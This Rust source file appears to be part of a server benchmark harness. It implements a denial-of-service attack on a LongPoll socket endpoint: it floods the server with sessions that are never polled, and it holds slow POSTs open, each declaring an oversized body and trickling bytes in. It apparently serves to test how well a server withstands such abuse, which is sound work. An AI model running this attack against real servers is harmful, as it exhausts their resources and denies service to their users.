//! (d) LongPoll abuse: sessions opened by GETs without a token, `LONGPOLL_SESSION_RATE` a second on one
//! keep-alive connection, none ever polled again (each lives until the server expires it); and `SLOW_POSTS`
//! POSTs held open at once, each declaring a body one byte over `MAX_FRAME_SIZE` and sending `SLOW_POST_CHUNK`
//! bytes of it every `SLOW_POST_EVERY`, until the server answers or closes. Against a server without LongPoll
//! every GET is refused (404) and no POST starts.

use std::time::Duration;

use channels_bench::MAX_FRAME_SIZE;
use channels_bench::connect_tcp;
use channels_bench::hostile::{LONGPOLL_SESSION_RATE, SLOW_POST_CHUNK, SLOW_POST_EVERY, SLOW_POSTS};
use serde_json::Value;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep};

use super::http::{request, response};
use super::{Attack, Counts, Target};

const OPEN: &str = "GET /socket/longpoll?vsn=2.0.0 HTTP/1.1\r\nHost: 127.0.0.1";
/// A failed connect is retried after this long.
const RETRY: Duration = Duration::from_millis(100);

/// What the attack counts: `sessions` (opened), `refused` (GETs answered otherwise), `connections` (opened for the GETs),
/// `posts` (slow POSTs started), `posts_answered`, `posts_closed` (by the server without an answer),
/// `post_held_max_s` (the longest the server kept one).
const COUNTS: &[&str] =
    &["sessions", "refused", "connections", "posts", "posts_answered", "posts_closed", "post_held_max_s"];

/// Runs the attack until `until`; returns its counts.
pub async fn run(t: Target, until: Instant) -> Value {
    let mut attack = Attack::new(until, COUNTS);
    attack.spawn(|counts| churn(t, counts));
    for _ in 0..SLOW_POSTS {
        attack.spawn(|counts| slow_posts(t, counts));
    }
    attack.finish().await
}

/// A new session, on `tcp`: its token, if the server opened one; an error if the connection failed.
async fn open(tcp: &mut TcpStream, counts: &Counts) -> std::io::Result<Option<String>> {
    let (status, body) = request(tcp, OPEN).await?;
    let v: Value = serde_json::from_str(&body).unwrap_or_default();
    Ok(match (status, v["status"].as_u64(), v["token"].as_str()) {
        (200, Some(410), Some(token)) => {
            counts.add("sessions");
            Some(token.to_owned())
        }
        _ => {
            counts.add("refused");
            None
        }
    })
}

async fn churn(t: Target, counts: Counts) {
    let mut tick = tokio::time::interval(Duration::from_secs_f64(1.0 / LONGPOLL_SESSION_RATE));
    loop {
        let Ok(mut tcp) = connect_tcp(t.src, t.addr).await else {
            sleep(RETRY).await;
            continue;
        };
        counts.add("connections");
        loop {
            tick.tick().await;
            if open(&mut tcp, &counts).await.is_err() {
                break;
            }
        }
    }
}

async fn slow_posts(t: Target, counts: Counts) {
    loop {
        let Ok(mut tcp) = connect_tcp(t.src, t.addr).await else {
            sleep(RETRY).await;
            continue;
        };
        let Ok(Some(token)) = open(&mut tcp, &counts).await else {
            sleep(RETRY).await;
            continue;
        };
        counts.add("posts");
        let started = Instant::now();
        let head = format!(
            "POST /socket/longpoll?vsn=2.0.0 HTTP/1.1\r\nHost: 127.0.0.1\r\nx-phoenix-longpoll-token: {token}\r\n\
             Content-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            MAX_FRAME_SIZE + 1
        );
        let answered = async {
            tcp.write_all(head.as_bytes()).await.ok()?;
            let (mut rd, mut wr) = tcp.split();
            let mut tick = tokio::time::interval(SLOW_POST_EVERY);
            let chunk = vec![b' '; SLOW_POST_CHUNK];
            let mut answer = std::pin::pin!(response(&mut rd));
            loop {
                tokio::select! {
                    r = &mut answer => return r.ok(),
                    _ = tick.tick() => {
                        wr.write_all(&chunk).await.ok()?;
                        // Also while it lasts: a POST the server never ends is cut only by the phase's end.
                        counts.max("post_held_max_s", started.elapsed());
                    }
                }
            }
        };
        match answered.await {
            Some(_) => counts.add("posts_answered"),
            None => counts.add("posts_closed"),
        }
        counts.max("post_held_max_s", started.elapsed());
    }
}
